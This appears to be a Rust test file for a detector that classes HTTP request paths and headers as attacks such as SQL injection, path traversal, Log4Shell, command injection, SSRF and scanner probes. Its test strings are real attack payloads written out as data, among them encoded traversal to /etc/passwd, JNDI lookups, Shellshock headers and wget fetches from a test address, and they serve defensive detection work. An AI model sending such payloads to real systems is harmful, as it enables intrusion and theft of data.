use super::*;

fn graded(part: Part, text: &str) -> Vec<(&'static str, Grade)> {
    let mut graded = Vec::new();
    find(std::iter::once((part, text)), |sign, _, grade| graded.push((sign.name(), grade)));
    graded
}

fn names(text: &str) -> Vec<&'static str> {
    graded(Part::Address, text).into_iter().map(|(name, _)| name).collect()
}

fn sure(text: &str) -> Option<Grade> {
    let graded = graded(Part::Address, text);
    graded.iter().map(|(_, grade)| *grade).max_by_key(|grade| *grade == Grade::Strong)
}

#[test]
fn attacks_plain_and_encoded() {
    assert_eq!(names("/a?f=../../../../etc/passwd"), ["traversal"]);
    assert_eq!(names("/a?f=%2e%2e%2f%2e%2e%2fx"), ["traversal"]);
    assert_eq!(names("/a?f=%252e%252e%252f%252e%252e%252fx"), ["traversal"]);
    assert_eq!(names("/a?id=1%20UNION%20SELECT%201,2"), ["sql"]);
    assert_eq!(names("/a?id=1+union+select+1"), ["sql"]);
    for spelled in [
        "1/**/UNION/**/ALL/**/SELECT/**/2",
        "1%20/*!50000UNION*/%20/*!50000SELECT*/%202",
        "1%0AUNION%09SELECT%20%202",
        "1%27%20AND%208423%3D8423--%20-",
        "1)%20AND%20(4711)=(4711",
        "x'%20OR%20'ab'='ab",
        "1+AND+2%3D2",
        "-1+or+CONCAT(0x716b7a7171,1)",
        "1||CHR(113)||CHR(98)",
        "CHAR(113)%2BCHAR(118)",
        "1,NULL,NULL",
    ] {
        assert_eq!(names(&format!("/a?id={spelled}")), ["sql"], "{spelled}");
    }
    for hidden in ["/a/*?f=../../../../etc/passwd", "/a/*../../etc/passwd*/", "/a?x=/*&f=%2e%2e%2f%2e%2e%2fx"]
    {
        assert_eq!(names(hidden), ["traversal"], "{hidden}");
    }
    assert_eq!(names("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), ["xss"]);
    assert_eq!(names("${jndi:ldap://192.0.2.1/a}"), ["log4shell"]);
    assert_eq!(names("Mozilla/5.00 (Nikto/2.1.6)"), ["scanner"]);
    assert_eq!(names("/.env"), ["hidden"]);
    assert_eq!(names("/a?q=a%3Benv%3B"), ["command"]);
    assert_eq!(names("/a?q=a%60sleep+60%60"), ["command"]);
    assert_eq!(names("/x.php?cmd=cat%20/etc/passwd"), ["traversal", "shell"]);
    assert_eq!(names("/x.php?cmd=whoami"), ["shell"]);
    assert_eq!(names("/.env.local"), ["hidden"]);
    assert_eq!(names("/db.sql.gz"), ["hidden"]);
    assert_eq!(names("/..;/..;/manager/html"), ["traversal"]);
    assert_eq!(names("/a?x=${j${k8s:k5:-ND}i:ldap://192.0.2.1/a}"), ["log4shell"]);
}

#[test]
fn ordinary_requests_are_silent() {
    for text in [
        "/",
        "/index.html",
        "/search?q=select+a+union+of+states",
        "/a/../b",
        "/environment",
        "/gitlab/x.git/info",
        "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0",
        "/script.js?v=100%",
        "/img?x=%zz",
        "/a?q=sleep+better;environment",
        "/a?x=1&env=prod&ping=1",
        "curl/8.5.0",
        "Wget/1.21",
        "/docs/sleep.html",
        "/wiki/Orion",
        "/search?q=salt+and+pepper+or+sugar",
        "/search?q=rock+and+roll%3Drock",
        "/calc?q=1+and+2%3D3",
        "/api/*/x  y",
        "/cgi-bin/webscr?cmd=_xclick",
        "/cart.php?cmd=add&id=7",
        "/x?cmd=",
        "/shell.phpx",
        "/assets/.environment.js",
        "/redmine/.env-docs",
        "/docs/web.config.html",
        "/backup.sql.html",
        "/docs/etc/passwd-format.html",
        "/docs/etc/passwd.html",
        "/man/etc/passwd",
        "/img/twin.ini",
        "/files/boot.initial.png",
        "/%C3%A4%C3%B6%C3%BC/caf%C3%A9",
        "/%E2%82%AC/x%uZZ",
        "/autodiscover/autodiscover.json?Email=bob%40example.com&Protocol=Ews",
        "/autodiscover/autodiscover.json/v1.0/bob@example.com",
        "/thinking/application",
        "/price?x=$%7Bname%7D",
        "/proxy?url=http://192.0.2.1/",
    ] {
        assert!(names(text).is_empty(), "{text}: {:?}", names(text));
    }
}

#[test]
fn what_recurs_is_judged_alike_each_time() {
    let agents = ["", "curl/8.5.0", "Mozilla/5.00 (Nikto/2.1.6)", "curl/8.5.0", "${jndi:ldap://192.0.2.1/a}"];
    let long = format!("Nikto {}", "x".repeat(2 * SHORT));
    for _ in 0..3 {
        for agent in agents.into_iter().chain([long.as_str()]) {
            let mut found = Vec::new();
            find(std::iter::once((Part::Header, agent)), |sign, _, _| found.push(sign.name()));
            assert_eq!(found, names(agent), "{agent}");
        }
    }
}

#[test]
fn ways_out_of_the_folder() {
    for path in [
        "/etc/passwd",
        "/a?f=/etc/passwd%00.html",
        "/a?f=/etc/passwd-",
        "/a?f=root/etc/shadow",
        "/static/..%c0%af..%c0%afetc/passwd",
        "/scripts/..%c0%af../winnt/x",
        "/scripts/..%c1%9c../winnt/x",
        "/scripts/..%e0%80%af../winnt/x",
        "/scripts/..%25c0%25af../x",
        "/%c0%ae%c0%ae/%c0%ae%c0%ae/x",
        "/..%u002f..%u002fx",
        "/..%u2215..%u2215x",
        "/cgi-bin/.%2e/.%2e/bin/x",
        "/cgi-bin/.%%32%65/.%%32%65/bin/x",
        "/vpn/../vpns/cfg/smb.conf",
        "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp",
        "/dana-na/../dana/html5acc/guacamole/../../x",
        "/+CSCOT+/translation-table?type=mst&textdomain=x",
        "/console/css/%252e%252e%252fconsole.portal",
        "/....//....//x",
        "/a?f=C:\\boot.ini",
    ] {
        assert_eq!(names(path), ["traversal"], "{path}");
    }
}

#[test]
fn holes_that_everybody_looks_for() {
    for (kind, texts) in [
        (
            "command",
            &[
                "/index.action?redirect:%25%7B(%23a%3D1)%7D",
                "/${(#a=@org.apache.commons.io.IOUtils@toString(1))}/",
                "/%24%7B%28%23a%3D1%29%7D/",
                "%{(#nike='multipart/form-data').(#dm=1)}",
                "/%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D/",
                "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
                "/index.php?s=/Index/\\think\\app/invokefunctio",
                "/GponForm/diag_Form?images/",
                "/shell?cd+/tmp;rm+-rf+*",
                "/cgi-bin/luci/;stok=/locale?form=country",
                "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/",
                "/?name={{7*7}}",
                "/wls-wsat/CoordinatorPortType",
            ][..],
        ),
        (
            "log4shell",
            &[
                "/?x=${${lower:${lower:j}}ndi:x",
                "/?x=${${::-j}${::-n}${::-d}${::-i}:x",
                "/?x=${${:-j}ndi:x",
                "/?x=${${date:'j'}ndi:x",
                "/?x=$%7Bjndi:iiop://192.0.2.1",
                "${base64:JHtqbmRpOmxkYXA6Ly8x}",
            ],
        ),
        (
            "shell",
            &["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?s=index/invokefunction&function=x"],
        ),
        (
            "hidden",
            &["/.git/config", "/.env", "/.env.production", "/app/.env", "/WEB-INF/web.xml", "/.kube/config"],
        ),
        ("ssrf", &["/fetch?url=http://169.254.169.254/latest/meta-data/", "/?u=gopher%3A%2F%2F127.0.0.1"]),
        ("scanner", &["/nice%20ports%2C/Tri%6Eity.txt%2ebak"]),
    ] {
        for text in texts {
            assert_eq!(names(text), [kind], "{text}");
        }
    }
}

/// What people search for, and what programs send to a data base that speaks HTTP.
#[test]
fn words_are_weak_signs() {
    for text in [
        "/search?q=union+select+committee+from+1984",
        "/search?q=%2Fetc%2Fpasswd+explained",
        "/search?q=C%3A%5CWindows%5CSystem32",
        "/man?q=wget+http+proxy+option",
        "/search?q=what+is+%2Fbin%2Fsh",
        "/s?q=sleep(8)+hours",
        "/search?q=java.lang.Runtime",
        "/search?q=file:///+urls",
        "/a/../../b/style.css",
        "/a?b=../../img/x.png",
        "/pub/db.sql.gz",
        "/query?q=SELECT+a+FROM+b+WHERE+c+%3D+%27d%27+AND+1%3D1",
        "/?query=SELECT+name+FROM+a+UNION+ALL+SELECT+name+FROM+b",
    ] {
        assert_eq!(sure(text), Some(Grade::Weak), "{text}");
    }
    for text in [
        "/wiki/Cat_/etc/passwd",
        "/a/b/c/../../d",
        "/docs/powershell/intro",
        "/search?q=powershell",
        "/.env.example",
        "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1",
        "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10; en-US) PowerShell/7.4.1",
    ] {
        assert_eq!(sure(text), None, "{text}");
        assert!(graded(Part::Header, text).is_empty() || text.starts_with('/'), "{text}");
    }
}

#[test]
fn the_syntax_of_attacks_is_a_strong_sign() {
    for text in [
        "/search?q=x%27+union+select+password+from+users",
        "/a?id=-1+union+select+password+from+users",
        "/a?id=1+union+select+null",
        "/a?id=sleep(5)",
        "/search?q=1+and+sleep(5)",
        "/search?q=1%27%3Bselect+pg_sleep(5)--",
        "/a?f=/etc/passwd",
        "/search?q=../../../etc/passwd",
        "/a?f=../../config.php",
        "/a?f=../../../../x.png",
        "/../../x",
        "/a?f=php://filter/convert.base64-encode/resource=index",
        "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
        "/search?q=x;wget+http://192.0.2.1/a",
        "/a?c=wget+http://192.0.2.1/a",
        "/a?c=powershell+-enc+aQBlAHgA",
        "/a?c=/bin/sh+-c+id",
        "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
        "/.env",
    ] {
        assert_eq!(sure(text), Some(Grade::Strong), "{text}");
    }
    let query = "f=/etc/passwd";
    assert_eq!(graded(Part::Query, query), [("traversal", Grade::Strong)]);
    assert_eq!(graded(Part::Query, "q=/etc/passwd"), [("traversal", Grade::Weak)]);
    assert_eq!(graded(Part::Header, "() { :;}; /bin/bash -c id"), [("command", Grade::Strong)]);
    let shocked = graded(Part::Header, "() { :;}; /bin/cat /etc/passwd");
    assert_eq!(shocked, [("traversal", Grade::Strong), ("command", Grade::Strong)]);
}
